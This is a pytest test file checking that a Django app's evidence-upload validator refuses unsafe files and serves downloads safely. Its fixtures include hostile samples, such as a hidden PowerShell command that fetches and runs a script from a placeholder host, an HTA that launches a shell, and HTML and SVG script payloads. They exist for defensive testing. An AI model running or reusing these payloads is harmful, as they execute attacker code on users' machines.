"""Evidence uploads: what is not recognised is not accepted.

Checked by content and by name together (an allow-list of types, the extension one of the sniffed type's), with
no macros, embedded objects or remote references in Office files, and no zip bombs or damaged files; refused files
are refused through the real upload page with their message and nothing saved; downloads go out under a safe name,
as their stored type, never sniffed. Every file here is built for real in the test (no mocks).
"""

import hashlib
import io
import re
import zipfile
from urllib.parse import unquote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.urls import reverse
from PIL import Image

from core.roles import Role
from forwardplans import services
from forwardplans.models import Evidence
from forwardplans.uploads import MESSAGES, validate_evidence_file

from .. import upload_samples as samples
from ..api_support import Api, error_of

TINY_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
    b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000056 00000 n \n0000000111 00000 n \n"
    b"trailer <</Size 4 /Root 1 0 R>>\nstartxref\n178\n%%EOF\n"
)
OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPE_MESSAGE = "The selected file must be a PDF, an Office document, an image or plain text"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Significant event analysis</w:t></w:r></w:p></w:body></w:document>"
)


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refused(uploaded, **kwargs):
    with pytest.raises(ValidationError) as caught:
        validate_evidence_file(uploaded, **kwargs)
    return caught.value


def image(fmt):
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 94, 184)).save(buffer, format=fmt)
    return buffer.getvalue()


def ooxml(main_part="word/document.xml", body=DOCUMENT_XML):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main_part, body)
    return buffer.getvalue()


def odf(mimetype="application/vnd.oasis.opendocument.text"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>", compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>", compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


MACROS = MESSAGES["macros"]
EXTERNAL = MESSAGES["external"]


# Accepted ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "content", "expected"), [
    ("minutes.pdf", TINY_PDF, "application/pdf"),
    ("rota.png", image("PNG"), "image/png"),
    ("photo.jpg", image("JPEG"), "image/jpeg"),
    ("chart.gif", image("GIF"), "image/gif"),
    ("poster.webp", image("WEBP"), "image/webp"),
    ("policy.docx", ooxml(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("audit.xlsx", ooxml("xl/workbook.xml", "<workbook/>"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("slides.pptx", ooxml("ppt/presentation.xml", "<presentation/>"),
     "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ("minutes.odt", odf(), "application/vnd.oasis.opendocument.text"),
    ("budget.ods", odf("application/vnd.oasis.opendocument.spreadsheet"),
     "application/vnd.oasis.opendocument.spreadsheet"),
    ("old-policy.doc", samples.legacy_doc(), "application/msword"),
    ("old-audit.xls", samples.legacy_xls(), "application/vnd.ms-excel"),
    ("old-slides.ppt", samples.legacy_ppt(), "application/vnd.ms-powerpoint"),
    ("minutes.docx", samples.word_document(),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    # A hyperlink is an external relationship too, but is only followed when clicked.
    ("links.docx", samples.word_document(hyperlink="https://www.nhs.uk/"),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("recall.xlsx", samples.excel_workbook(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("notes.md", b"# Meeting\n\nUse <b>bold</b> sparingly.\n", "text/plain"),
    ("notes.txt", "Meeting held 3 March – all partners present. Café £5\n".encode(), "text/plain"),
    ("notes.txt", b"\xef\xbb\xbfText with a byte order mark\r\n\tand a tab\n", "text/plain"),
    ("register.csv", b"date,attendees\n2026-03-03,12\n", "text/plain"),
])
def test_accepted_types_detected_by_content(name, content, expected):
    uploaded = upload(name, content)
    content_type, size, sha256 = validate_evidence_file(uploaded)
    assert content_type == expected
    assert size == len(content)
    assert sha256 == hashlib.sha256(content).hexdigest()
    assert uploaded.tell() == 0, "the file is left ready to be saved"


def test_upper_case_extensions_are_fine():
    assert validate_evidence_file(upload("SCAN.PDF", TINY_PDF))[0] == "application/pdf"
    assert validate_evidence_file(upload("Policy.Docx", ooxml()))[0] == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document")


# Refused ----------------------------------------------------------------------------------------

def test_empty_file_is_refused():
    error = refused(upload("empty.pdf", b""))
    assert error.messages == ["The selected file is empty"]
    assert error.code == "empty"


def test_missing_file_is_refused():
    assert refused(None).messages == ["Select a file to upload"]


def test_oversize_file_is_refused_with_the_limit_in_the_message():
    error = refused(upload("big.txt", b"a" * 2049), max_bytes=2048)
    assert error.messages == ["The selected file must be smaller than 2 KB"]
    assert error.code == "too_large"
    # Exactly at the limit is fine.
    assert validate_evidence_file(upload("ok.txt", b"a" * 2048), max_bytes=2048)[1] == 2048


def test_default_limit_is_20_mb_and_comes_from_settings(settings):
    assert settings.EVIDENCE_MAX_BYTES == 20 * 1024 * 1024  # settings' default (EVIDENCE_MAX_BYTES unset)
    error = refused(upload("huge.txt", b"a" * (20 * 1024 * 1024 + 1)))
    assert error.messages == ["The selected file must be smaller than 20 MB"]
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    assert refused(upload("big.txt", b"a" * (1024 * 1024 + 1))).messages == [
        "The selected file must be smaller than 1 MB"]


class CountingBytesIO(io.BytesIO):
    """A real in-memory file that remembers how many bytes were read from it."""

    bytes_read = 0

    def read(self, size=-1):
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def test_size_is_measured_by_streaming_no_more_than_the_limit_plus_one():
    # A file whose size is not declared in advance (as from some upload handlers).
    stream = CountingBytesIO(b"a" * 500_000)
    uploaded = UploadedFile(file=stream, name="stream.txt", size=None)
    error = refused(uploaded, max_bytes=100_000)
    assert error.code == "too_large"
    assert stream.bytes_read <= 100_001


def test_pdf_name_with_other_content_is_refused():
    error = refused(upload("report.pdf", b"This is just text pretending to be a PDF.\n"))
    assert error.messages == ["The selected file’s name ends in .pdf but the file is not a PDF"]
    assert refused(upload("photo.png", image("JPEG"))).code == "mismatch"


def test_executable_named_txt_is_refused():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(400)
    error = refused(upload("readme.txt", exe))
    assert error.messages == [TYPE_MESSAGE]
    assert error.code == "type"


@pytest.mark.parametrize("content", [
    b"text with a NUL \x00 byte in it",
    "Latin-1 caf\xe9 is not UTF-8".encode("latin-1"),
    b"\x01\x02\x03\x04\x05\x06\x07\x08 mostly control characters",
    "UTF-16 text from Notepad".encode("utf-16"),
])
def test_binary_or_non_utf8_text_is_refused(content):
    assert refused(upload("notes.txt", content)).messages == [TYPE_MESSAGE]


@pytest.mark.parametrize("content", [
    samples.cfb({"SummaryInformation": b"\x00"}),   # an OLE file with no Office stream (e.g. an MSI installer)
    samples.cfb({"__substg1.0_0037001F": b"Hi"}),   # an Outlook message
    b"\x1f\x8b\x08\x00" + bytes(64),    # gzip
    b"\x7fELF\x02\x01\x01" + bytes(64),  # Linux executable
])
def test_other_binary_types_are_refused(content):
    assert refused(upload("document.doc", content)).messages == [TYPE_MESSAGE]


def test_plain_zip_and_unknown_odf_are_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + bytes(100))
    assert refused(upload("evidence.docx", buffer.getvalue())).code == "type"
    assert refused(upload("drawing.odt", odf("application/vnd.oasis.opendocument.graphics"))).code == "type"


def test_zip_bomb_is_refused_without_extracting():
    """200 MB of zeros deflate to about 200 KB: the declared size gives it away."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            zeros = bytes(1024 * 1024)
            for _ in range(200):
                member.write(zeros)
    content = buffer.getvalue()
    assert len(content) < 1024 * 1024
    error = refused(upload("bomb.docx", content))
    assert error.messages == ["The selected file must be smaller than 100 MB when uncompressed"]
    assert error.code == "zip_too_big"


def test_highly_compressed_zip_is_refused():
    """Under 100 MB uncompressed, but compressed more than 100:1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open("word/document.xml", "w") as member:
            for _ in range(10):
                member.write(bytes(1024 * 1024))
    assert refused(upload("dense.docx", buffer.getvalue())).code == "zip_bomb"


def test_zip_with_too_many_members_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for n in range(10_000):
            archive.writestr(f"word/media/{n}.xml", b"")
    assert refused(upload("many.docx", buffer.getvalue())).code == "zip_bomb"


def test_corrupt_zip_is_refused():
    good = ooxml()
    truncated = good[: len(good) // 2]  # the central directory is gone
    error = refused(upload("damaged.docx", truncated))
    assert error.messages == [
        "The selected file is damaged and cannot be opened – save it again and upload the new copy"]
    garbage_directory = good[:-22] + b"PK\x05\x06" + b"\xff" * 18
    assert refused(upload("damaged.docx", garbage_directory)).code == "corrupt"


# What is not recognised is not accepted ---------------------------------------------------------------------------

HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG_IMAGE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>\n'
HTA_APP = b'<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>\n'
BATCH_FILE = b"@echo off\r\npowershell -nop -w hidden -c \"iwr https://x.invalid/p.ps1 | iex\"\r\n"


def extension_refused(extension):
    return MESSAGES["extension"].format(extension=extension)


def mismatch(extension, label):
    return MESSAGES["mismatch"].format(extension=extension, label=label)


# (name, content, the message the person sees)
REFUSED = {
    "hta": ("update.hta", HTA_APP, extension_refused("hta")),
    "bat": ("tidy-up.bat", BATCH_FILE, extension_refused("bat")),
    "html": ("minutes.html", HTML_PAGE, extension_refused("html")),
    "svg": ("chart.svg", SVG_IMAGE, extension_refused("svg")),
    "docm": ("policy.docm", samples.with_vba(samples.word_document()), MACROS),
    "xlsm": ("audit.xlsm", samples.with_vba(samples.excel_workbook(), "xl"), MACROS),
    "docx-macro-enabled": ("policy.docx", samples.with_vba(samples.word_document()), MACROS),
    "docx-with-vbaProject.bin": ("policy.docx", samples.with_vba_project_only(samples.word_document()), MACROS),
    "xlsx-with-vbaProject.bin": ("audit.xlsx", samples.with_vba_project_only(samples.excel_workbook(), "xl"),
                                 MACROS),
    "docx-remote-template": ("policy.docx", samples.with_remote_template(samples.word_document()), EXTERNAL),
    "docx-remote-frame": ("policy.docx", samples.with_external_relationship(
        samples.word_document(), "frame", "https://x.invalid/frame.html"), EXTERNAL),
    "docx-remote-ole-object": ("policy.docx", samples.with_external_relationship(
        samples.word_document(), "oleObject"), EXTERNAL),
    "docx-unc-image-without-target-mode": ("policy.docx", samples.with_external_relationship(
        samples.word_document(), "image", mode=None), EXTERNAL),
    "doc-with-macros": ("old-policy.doc", samples.legacy_doc(macros=True), MACROS),
    "xls-with-vba": ("old-audit.xls", samples.legacy_xls(vba=True), MACROS),
    "xls-with-excel4-macro-sheet": ("old-audit.xls", samples.legacy_xls(sheet_type=0x01), MACROS),
    "ppt-with-vba": ("old-slides.ppt", samples.legacy_ppt(macros=True), MACROS),
    "html-named-txt": ("notes.txt", HTML_PAGE, MESSAGES["markup"]),
    "svg-named-txt": ("chart.txt", SVG_IMAGE, MESSAGES["markup"]),
    "html-named-pdf": ("report.pdf", HTML_PAGE, MESSAGES["markup"]),
    "text-named-pdf": ("report.pdf", b"Just words pretending to be a PDF.\n", mismatch("pdf", "a PDF")),
    "pdf-named-html": ("report.html", TINY_PDF, extension_refused("html")),
    "docx-named-pdf": ("report.pdf", samples.word_document(), mismatch("pdf", "a PDF")),
    "pdf-named-docx": ("report.docx", TINY_PDF, mismatch("docx", "a Word document")),
    "docx-named-doc": ("policy.doc", samples.word_document(), mismatch("doc", "a Word 97-2003 document")),
    "trailing-dot-hides-hta": ("update.hta.", HTA_APP, extension_refused("hta")),
    "no-extension": ("scan", TINY_PDF, MESSAGES["no_extension"]),
}


@pytest.mark.parametrize("case", REFUSED.values(), ids=REFUSED.keys())
def test_unrecognised_or_unsafe_files_are_refused_by_the_check(case):
    name, content, message = case
    assert refused(upload(name, content)).messages == [message]


def test_an_odf_document_with_basic_macros_is_refused():
    assert refused(upload("minutes.odt", odf_with({"Basic/Standard/Module1.xml": "<script:module/>"}))).messages == [
        MACROS]
    scripted = odf_with({}, content='<office:document-content><office:event-listeners><script:event-listener '
                                    'xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
                                    '</office:event-listeners></office:document-content>')
    assert refused(upload("minutes.odt", scripted)).messages == [MACROS]


def odf_with(extra, content="<office:document-content/>"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        for name, data in extra.items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def test_an_ooxml_package_with_a_dtd_is_refused_not_expanded():
    """A billion-laughs [Content_Types].xml: defusedxml refuses the DTD instead of expanding it."""
    bomb = ('<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Default Extension="xml" ContentType="&c;"/></Types>')
    package = samples.rewrite(samples.word_document(), replace={"[Content_Types].xml": lambda _text: bomb})
    assert refused(upload("policy.docx", package)).code == "corrupt"


@pytest.fixture
def uploader(client, docs, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(docs["users"][Role.PRACTICE_USER])
    return client


@pytest.mark.parametrize("case", REFUSED.values(), ids=REFUSED.keys())
def test_refused_files_are_refused_through_the_upload_page_and_nothing_is_saved(uploader, docs, tmp_path, case):
    name, content, message = case
    action = docs["action"]
    for headers in ({"HX-Request": "true"}, {}):  # in place, and without JavaScript
        response = uploader.post(reverse("forwardplans:evidence_upload", args=[action.pk]),
                                 {"file": SimpleUploadedFile(name, content), "version": action.version},
                                 headers=headers)
        page = response.content.decode()
        assert response.status_code == 422, headers
        assert "There is a problem" in page and message in page, headers
        assert not Evidence.objects.exists()
        assert [path for path in tmp_path.rglob("*") if path.is_file()] == []
        action.refresh_from_db()
        assert action.version == docs["action"].version


def test_the_api_takes_no_evidence(client, docs, tmp_path, settings):
    """The API accepts JSON only: an upload sent to it is refused with its error body and nothing is saved."""
    settings.MEDIA_ROOT = tmp_path
    action = docs["action"]
    api = Api(client, docs["users"][Role.PRACTICE_USER])
    response = client.patch(f"/api/v1/actions/{action.pk}/",
                            client_multipart({"file": SimpleUploadedFile("update.hta", HTA_APP)}),
                            content_type="multipart/form-data; boundary=BoUnDaRy",
                            headers=api.headers(**{"If-Match": f'"{action.version}"'}))
    assert error_of(response, 415)["code"] == "unsupported_media_type"
    assert not Evidence.objects.exists()
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def client_multipart(data):
    from django.test.client import encode_multipart

    return encode_multipart("BoUnDaRy", data)


# Downloads --------------------------------------------------------------------------------------------------------

def stored(docs, name, content):
    action = docs["action"]
    action.refresh_from_db()
    return services.evidence_upload(action=action, actor=docs["users"][Role.PRACTICE_USER],
                                    uploaded_file=SimpleUploadedFile(name, content), base_version=action.version)


def disposition(response):
    """The Content-Disposition's ASCII filename and its UTF-8 filename* (RFC 6266 / RFC 8187)."""
    header = response["Content-Disposition"]
    match = re.fullmatch(r'attachment; filename="([^"\\]*)"; filename\*=UTF-8\'\'([A-Za-z0-9!#$&+\-.^_`|~%]*)',
                         header)
    assert match, header
    return match.group(1), unquote(match.group(2), encoding="utf-8", errors="strict")


@pytest.mark.parametrize(("name", "content", "ascii_name", "utf8_name", "served_as"), [
    ("recall log.pdf", TINY_PDF, "recall log.pdf", "recall log.pdf", "application/pdf"),
    ('minutes "final".pdf', TINY_PDF, "minutes _final.pdf", "minutes _final.pdf", "application/pdf"),
    ("O'Brien's notes.txt", b"notes\n", "O_Brien_s notes.txt", "O_Brien_s notes.txt", "text/plain; charset=utf-8"),
    ("Café – réunion.txt", b"notes\n", "Cafe  reunion.txt", "Café – réunion.txt", "text/plain; charset=utf-8"),
    ("会议记录.docx", samples.word_document(), "download.docx", "会议记录.docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("C:\\Users\\dr\\evil.pdf", TINY_PDF, "C_Users_dr_evil.pdf", "C_Users_dr_evil.pdf", "application/pdf"),
    ("line\r\nbreak.png", image("PNG"), "line break.png", "line break.png", "image/png"),
])
def test_downloads_go_out_under_a_safe_name_as_their_stored_type(uploader, docs, name, content, ascii_name, utf8_name,
                                                                  served_as):
    evidence = stored(docs, name, content)
    response = uploader.get(reverse("forwardplans:evidence_download", args=[evidence.pk]))
    assert response.status_code == 200
    assert disposition(response) == (ascii_name, utf8_name)
    assert response["Content-Type"] == served_as
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == content


@pytest.mark.parametrize(("name", "content_type", "served_name", "served_as"), [
    ("page.html", "text/html", "page.bin", "application/octet-stream"),
    ("chart.svg", "image/svg+xml", "chart.bin", "application/octet-stream"),
    ("notes.html", "text/plain", "notes.txt", "text/plain; charset=utf-8"),
    ("update.hta", "text/plain", "update.txt", "text/plain; charset=utf-8"),
    ("scan", "application/pdf", "scan.pdf", "application/pdf"),
    ("minutes v1.2 final", "application/pdf", "minutes v1.2 final.pdf", "application/pdf"),
])
def test_evidence_stored_before_the_allow_list_is_served_safely(uploader, docs, tmp_path, name, content_type,
                                                                served_name, served_as):
    """Files kept from before (under any name and type) are served as a type of the allow-list, under a name
    with its extension, never as a page or an image a browser would run."""
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "old").write_bytes(HTML_PAGE)
    evidence = Evidence.objects.create(action=docs["action"], file="evidence/old", original_name=name,
                                       content_type=content_type, size=len(HTML_PAGE), sha256="0" * 64,
                                       uploaded_by=docs["users"][Role.PRACTICE_USER])
    response = uploader.get(reverse("forwardplans:evidence_download", args=[evidence.pk]))
    assert disposition(response) == (served_name, served_name)
    assert response["Content-Type"] == served_as
    assert response["X-Content-Type-Options"] == "nosniff"
